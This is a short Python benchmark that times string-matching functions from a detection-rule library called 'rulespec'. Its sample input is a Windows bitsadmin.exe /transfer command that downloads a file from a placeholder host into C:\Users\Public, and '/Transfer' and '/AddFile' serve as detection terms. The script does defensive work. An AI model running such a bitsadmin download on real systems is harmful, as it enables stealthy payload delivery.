"""Measures the time of a call from Python.

    pip install ./python
    python3 python/benches/calls.py

Prints the best of seven loops of 200,000 calls, in nanoseconds per call, minus the time
of an empty loop. calls.rs measures the same calls in Rust: see README.md.
"""

import timeit

LINE = r'"C:\Windows\System32\bitsadmin.exe" /transfer update http://files.example/a C:\Users\Public\a.bin'

CALLS = {
    "eq_ci": ("eq_ci(name, 'bitsadmin.exe')", "name = 'BITSADMIN.EXE'"),
    "has": ("has(line, '/Transfer')", f"line = {LINE!r}"),
    "has_any": ("has_any(line, terms)", f"line = {LINE!r}; terms = ['/Transfer', '/AddFile']"),
    "parse_command_line": ("parse_command_line(line)", f"line = {LINE!r}"),
    "indexof": ("indexof(line, '.')", "line = 'ws07.corp.example'"),
    "substring": ("substring(line, 5)", "line = 'ws07.corp.example'"),
    "element": ("element(words, -1)", "words = ['a', 'b', 'c']"),
    "tostring": ("tostring(7)", ""),
}

LOOPS = 200_000


def nanoseconds(statement: str, setup: str) -> float:
    return min(timeit.repeat(statement, setup, number=LOOPS, repeat=7)) / LOOPS * 1e9


def main() -> None:
    empty = nanoseconds("pass", "pass")
    for name, (call, setup) in CALLS.items():
        taken = nanoseconds(call, f"from rulespec import {name}; {setup}") - empty
        print(f"{name:20} {taken:7.0f} ns")


if __name__ == "__main__":
    main()
